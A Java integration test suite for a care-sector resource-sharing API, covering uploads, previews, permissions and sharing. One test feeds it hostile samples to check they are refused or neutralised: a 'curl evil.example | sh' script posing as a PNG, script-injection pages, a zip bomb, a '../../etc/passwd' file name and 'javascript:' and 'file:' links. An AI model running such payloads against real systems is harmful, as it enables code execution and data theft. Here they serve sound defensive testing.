package org.qicommons.resource;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.net.URL;
import java.net.http.HttpResponse;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.qicommons.testing.ApiClient;
import org.qicommons.testing.ApiClient.Account;
import org.qicommons.testing.ApiClient.FilePart;
import org.qicommons.testing.ApiClient.Reply;
import org.qicommons.testing.Deployments;
import org.qicommons.testing.SampleMembers;

/**
 * Shared resources through the API: a tool uploaded, previewed, downloaded with permission checked
 * and adapted by another organisation; every hostile upload refused (a script dressed as a PNG, an
 * HTML page, a zip bomb, an oversized file) or served safely (a "../" name); links checked.
 */
@ExtendWith(ArquillianExtension.class)
class ResourceApiIT {
    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.application();
    }

    @ArquillianResource
    URL base;

    private static Map<String, List<String>> fields(String title, String reach) {
        Map<String, List<String>> fields = new LinkedHashMap<>();
        fields.put("title", List.of(title));
        fields.put("description", List.of("A one-page visual tool for recording ethnicity at admission."));
        fields.put("type", List.of("VISUAL_TOOL"));
        fields.put("licence", List.of("CC_BY"));
        fields.put("reach", List.of(reach));
        fields.put("tags", List.of("ethnicity data", "admission"));
        return fields;
    }

    @Test
    void aToolIsSharedPreviewedDownloadedAndAdaptedElsewhere() {
        ApiClient api = new ApiClient(base);
        long careHome = api.createOrganisation(SampleMembers.unique("Brookside Care"), "CARE_HOME", "North East");
        long community = api.createOrganisation(
                SampleMembers.unique("Valley Community Health"), "COMMUNITY_PROVIDER", "North East");
        Account maker = api.signUp(SampleMembers.named("Tool Maker", "Manager"), careHome);
        Account adapter = api.signUp(SampleMembers.named("Tool Adapter", "QI lead"), community);
        byte[] pdf = SampleFiles.pdf("Ethnicity recording card");

        JsonObject created = api.upload(
                        "api/resources",
                        maker.token(),
                        fields("Ethnicity card " + System.nanoTime(), "PUBLIC"),
                        new FilePart("ethnicity-card.pdf", "application/octet-stream", pdf))
                .expect(201)
                .json();
        long id = created.getJsonNumber("id").longValue();
        assertEquals(
                "application/pdf", created.getJsonObject("file").getString("mediaType"), "type read from the bytes");
        assertEquals(
                pdf.length, created.getJsonObject("file").getJsonNumber("size").longValue());
        assertEquals(
                careHome,
                created.getJsonObject("organisation").getJsonNumber("id").longValue());

        HttpResponse<byte[]> file = api.download("api/resources/" + id + "/file", null);
        assertEquals(200, file.statusCode());
        assertArrayEquals(pdf, file.body());
        // (the container adds the deployment's charset to every type; a PDF reader ignores it)
        assertTrue(file.headers().firstValue("Content-Type").orElse("").startsWith("application/pdf"));
        assertTrue(file.headers()
                .firstValue("Content-Disposition")
                .orElse("")
                .startsWith("inline; filename=\"ethnicity-card.pdf\""));
        assertEquals(
                "nosniff", file.headers().firstValue("X-Content-Type-Options").orElse(""));

        HttpResponse<byte[]> preview = api.download("api/resources/" + id + "/preview", null);
        assertEquals(200, preview.statusCode(), "a PDF gets a first-page preview");
        assertTrue(preview.headers().firstValue("Content-Type").orElse("").startsWith("image/png"));
        assertTrue(preview.body().length > 100);

        // another organisation adapts it, in a project of theirs
        long project = api.post(
                        "api/projects",
                        adapter.token(),
                        Json.createObjectBuilder()
                                .add("title", "Ethnicity recording in community nursing")
                                .add("summary", "Using Brookside's card on our caseload.")
                                .add("setting", "COMMUNITY")
                                .add("reach", "PUBLIC"))
                .expect(201)
                .id();
        JsonObject adapted = api.post(
                        "api/resources/" + id + "/adaptations",
                        adapter.token(),
                        Json.createObjectBuilder()
                                .add("projectId", project)
                                .add("note", "Translated into Polish and Urdu."))
                .expect(201)
                .json();
        assertEquals(
                community,
                adapted.getJsonArray("spreadTo")
                        .getJsonObject(0)
                        .getJsonNumber("id")
                        .longValue(),
                "its spread across organisations shows on the resource");
        assertEquals(
                project,
                adapted.getJsonArray("adaptations")
                        .getJsonObject(0)
                        .getJsonObject("project")
                        .getJsonNumber("id")
                        .longValue());
        assertEquals(
                "projectId",
                api.post(
                                "api/resources/" + id + "/adaptations",
                                maker.token(),
                                Json.createObjectBuilder()
                                        .add("projectId", project)
                                        .add("note", "Not my project"))
                        .expect(400)
                        .field());

        // each organisation's page lists what it made and what it is involved in
        JsonObject makerPage =
                api.get("api/organisations/" + careHome, null).expect(200).json();
        assertEquals(1, makerPage.getJsonNumber("memberCount").longValue());
        assertTrue(makerPage.getJsonArray("resources").stream()
                .anyMatch(r -> r.asJsonObject().getJsonNumber("id").longValue() == id));
        JsonObject adopter =
                api.get("api/organisations/" + community, null).expect(200).json();
        assertTrue(adopter.getJsonArray("projects").stream()
                .anyMatch(p -> p.asJsonObject().getJsonNumber("id").longValue() == project));
        assertEquals(404, api.get("api/organisations/987654321", null).status());

        // an image is its own preview
        long image = api.upload(
                        "api/resources",
                        maker.token(),
                        fields("Run chart picture", "PUBLIC"),
                        new FilePart("chart.png", "image/png", SampleFiles.png()))
                .expect(201)
                .id();
        assertTrue(api.download("api/resources/" + image + "/preview", null)
                .headers()
                .firstValue("Content-Type")
                .orElse("")
                .startsWith("image/png"));

        // search finds resources by what they say
        assertTrue(
                api
                        .get("api/search?type=RESOURCE&q=ethnicity+card", null)
                        .expect(200)
                        .json()
                        .getJsonArray("hits")
                        .stream()
                        .anyMatch(hit -> hit.asJsonObject().getJsonNumber("id").longValue() == id));
    }

    @Test
    void hostileUploadsAreRefusedSayingWhyOrServedSafely() {
        ApiClient api = new ApiClient(base);
        Account member = api.signUp(SampleMembers.named("Upload Tester", "Analyst"), null);
        record Case(String name, FilePart file, String says) {}
        byte[] oversized = new byte[21 * 1024 * 1024];
        new Random(7).nextBytes(oversized);
        List<Case> cases = List.of(
                new Case(
                        "a script dressed as a PNG",
                        new FilePart("chart.png", "image/png", SampleFiles.text("#!/bin/sh\ncurl evil.example | sh\n")),
                        "whatever its name says"),
                new Case(
                        "an HTML page",
                        new FilePart(
                                "report.html",
                                "text/html",
                                SampleFiles.text("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>")),
                        "HTML"),
                new Case(
                        "an HTML page named .csv",
                        new FilePart(
                                "data.csv",
                                "text/csv",
                                SampleFiles.text("<html><script>alert(document.cookie)</script></html>")),
                        "HTML"),
                new Case(
                        "a zip bomb named .docx",
                        new FilePart("tool.docx", "application/octet-stream", SampleFiles.zipBomb(300)),
                        "zip bomb"),
                new Case("a plain zip", new FilePart("tools.zip", "application/zip", zipOf()), "zip archive"),
                new Case(
                        "an oversized file",
                        new FilePart("big.pdf", "application/pdf", oversized),
                        "larger than the limit of 20 MB"),
                new Case("an empty file", new FilePart("empty.pdf", "application/pdf", new byte[0]), "empty"));
        for (Case c : cases) {
            Reply refused =
                    api.upload("api/resources", member.token(), fields("Hostile " + c.name(), "PUBLIC"), c.file());
            assertEquals(400, refused.status(), c.name() + ": " + refused);
            assertEquals("file", refused.field(), c.name());
            assertTrue(refused.text().contains(c.says()), c.name() + ": " + refused.text());
        }
        // nothing of them was kept: no resource by those titles
        assertFalse(api.get("api/resources?size=100", member.token())
                .expect(200)
                .text()
                .contains("Hostile"));

        // a "../" name is only metadata: stored under the store's own key, offered under its last part
        long named = api.upload(
                        "api/resources",
                        member.token(),
                        fields("Path name", "PUBLIC"),
                        new FilePart("../../etc/passwd.pdf", "application/pdf", SampleFiles.pdf("x")))
                .expect(201)
                .id();
        String disposition = api.download("api/resources/" + named + "/file", null)
                .headers()
                .firstValue("Content-Disposition")
                .orElse("");
        assertTrue(disposition.startsWith("inline; filename=\"passwd.pdf\""), disposition);

        // CSV is accepted, and always downloaded, never shown
        long csv = api.upload(
                        "api/resources",
                        member.token(),
                        fields("Run chart data", "PUBLIC"),
                        new FilePart(
                                "data.csv", "text/csv", SampleFiles.text("month,admissions\n2026-01,4\n2026-02,3\n")))
                .expect(201)
                .id();
        HttpResponse<byte[]> data = api.download("api/resources/" + csv + "/file", null);
        assertTrue(data.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"));
        assertTrue(data.headers().firstValue("Content-Disposition").orElse("").startsWith("attachment;"));

        // links: only web addresses
        assertEquals(
                "linkUrl",
                api.post("api/resources", member.token(), link("javascript:alert(1)"))
                        .expect(400)
                        .field());
        assertEquals(
                "linkUrl",
                api.post("api/resources", member.token(), link("file:///etc/passwd"))
                        .expect(400)
                        .field());
        api.post("api/resources", member.token(), link("https://example.org/tool"))
                .expect(201);
        assertEquals(
                "file",
                api.upload("api/resources", member.token(), fields("No file", "PUBLIC"), null)
                        .expect(400)
                        .field());
    }

    @Test
    void aPrivateResourceIsNotFoundAndItsFileIsNotServedUntilShared() {
        ApiClient api = new ApiClient(base);
        Account admin = api.siteAdministrator();
        long regulator = api.createOrganisation(SampleMembers.unique("Resource Inspectorate"), "REGULATOR", "Wales");
        api.put(
                        "api/admin/organisations/" + regulator + "/verification",
                        admin.token(),
                        Json.createObjectBuilder().add("verified", true).add("reason", "Register"))
                .expect(200);
        Account author = api.signUp(SampleMembers.named("Private Author", "Manager"), null);
        Account other = api.signUp(SampleMembers.named("Other Member", "Nurse"), null);
        Account inspector = api.signUp(SampleMembers.named("Resource Inspector", "Inspector"), regulator);
        long id = api.upload(
                        "api/resources",
                        author.token(),
                        fields("Draft audit tool", "TEAM"),
                        new FilePart("audit.pdf", "application/pdf", SampleFiles.pdf("draft")))
                .expect(201)
                .id();
        for (String token : new String[] {null, other.token(), inspector.token()}) {
            assertEquals(404, api.get("api/resources/" + id, token).status());
            assertEquals(
                    404, api.download("api/resources/" + id + "/file", token).statusCode());
            assertEquals(
                    404, api.download("api/resources/" + id + "/preview", token).statusCode());
        }
        assertEquals(
                200,
                api.download("api/resources/" + id + "/file", author.token()).statusCode());
        api.post(
                        "api/shares",
                        author.token(),
                        Json.createObjectBuilder()
                                .add("itemKind", "RESOURCE")
                                .add("itemId", id)
                                .add("organisationId", regulator)
                                .add("reason", "For the inspection"))
                .expect(201);
        assertEquals(
                200,
                api.download("api/resources/" + id + "/file", inspector.token()).statusCode());
        assertEquals(
                404,
                api.download("api/resources/" + id + "/file", other.token()).statusCode());
        // and it is in the inspector's Shared learning, and nobody else's
        assertTrue(sharedLearning(api, inspector.token()).contains("RESOURCE:" + id));
        assertFalse(sharedLearning(api, other.token()).contains("RESOURCE:" + id));
    }

    @Test
    void aResourceLinksToTheGroupsItIsUsedInNamingOnlyThoseTheReaderMayRead() {
        ApiClient api = new ApiClient(base);
        Account author = api.signUp(SampleMembers.named("Related Author", "Lead"), null);
        Account reader = api.signUp(SampleMembers.named("Related Reader", "Nurse"), null);
        String open = api.createGroup(author.token(), SampleMembers.unique("Open circle"), "PUBLIC", "OPEN");
        String closed = api.createGroup(author.token(), SampleMembers.unique("Closed circle"), "PRIVATE", "INVITE");
        String elsewhere = api.createGroup(reader.token(), SampleMembers.unique("Reader circle"), "PRIVATE", "INVITE");
        long openId = api.get("api/groups/" + open, author.token()).expect(200).id();
        long closedId =
                api.get("api/groups/" + closed, author.token()).expect(200).id();
        long elsewhereId =
                api.get("api/groups/" + elsewhere, reader.token()).expect(200).id();

        long id = api.post(
                        "api/resources",
                        author.token(),
                        link("https://example.org/driver-diagram")
                                .add(
                                        "relatedGroupIds",
                                        Json.createArrayBuilder().add(openId).add(closedId)))
                .expect(201)
                .id();
        assertEquals(
                java.util.Set.of(open, closed),
                relatedGroups(api.get("api/resources/" + id, author.token())
                        .expect(200)
                        .json()));
        // the private group is not named to someone who cannot read it
        assertEquals(
                java.util.Set.of(open),
                relatedGroups(api.get("api/resources/" + id, reader.token())
                        .expect(200)
                        .json()));
        assertEquals(
                java.util.Set.of(open),
                relatedGroups(api.get("api/resources/" + id, null).expect(200).json()));
        // nor can anyone relate a group they cannot read, or one that does not exist
        for (long group : List.of(elsewhereId, 987654321L)) {
            assertEquals(
                    "relatedGroupIds",
                    api.post(
                                    "api/resources",
                                    author.token(),
                                    link("https://example.org/other")
                                            .add(
                                                    "relatedGroupIds",
                                                    Json.createArrayBuilder().add(group)))
                            .expect(400)
                            .field());
        }
        // changing the list replaces it; leaving it out keeps it
        api.patch(
                        "api/resources/" + id,
                        author.token(),
                        Json.createObjectBuilder()
                                .add(
                                        "relatedGroupIds",
                                        Json.createArrayBuilder().add(closedId)))
                .expect(200);
        api.patch(
                        "api/resources/" + id,
                        author.token(),
                        Json.createObjectBuilder().add("title", "Driver diagram"))
                .expect(200);
        assertEquals(
                java.util.Set.of(closed),
                relatedGroups(api.get("api/resources/" + id, author.token())
                        .expect(200)
                        .json()));
    }

    private static java.util.Set<String> relatedGroups(jakarta.json.JsonObject resource) {
        return resource.getJsonArray("relatedGroups").stream()
                .map(group -> group.asJsonObject().getString("slug"))
                .collect(java.util.stream.Collectors.toSet());
    }

    private static java.util.Set<String> sharedLearning(ApiClient api, String token) {
        return api.get("api/shared-learning", token).expect(200).json().getJsonArray("items").stream()
                .map(item -> item.asJsonObject().getString("kind") + ":"
                        + item.asJsonObject().getJsonNumber("id"))
                .collect(java.util.stream.Collectors.toSet());
    }

    private static jakarta.json.JsonObjectBuilder link(String url) {
        return Json.createObjectBuilder()
                .add("title", "A link")
                .add("description", "Somewhere else")
                .add("type", "REPORT")
                .add("licence", "OGL")
                .add("reach", "PUBLIC")
                .add("linkUrl", url);
    }

    private static byte[] zipOf() {
        try (var bytes = new java.io.ByteArrayOutputStream();
                var zip = new java.util.zip.ZipOutputStream(bytes)) {
            zip.putNextEntry(new java.util.zip.ZipEntry("readme.txt"));
            zip.write("hello".getBytes());
            zip.closeEntry();
            zip.finish();
            return bytes.toByteArray();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
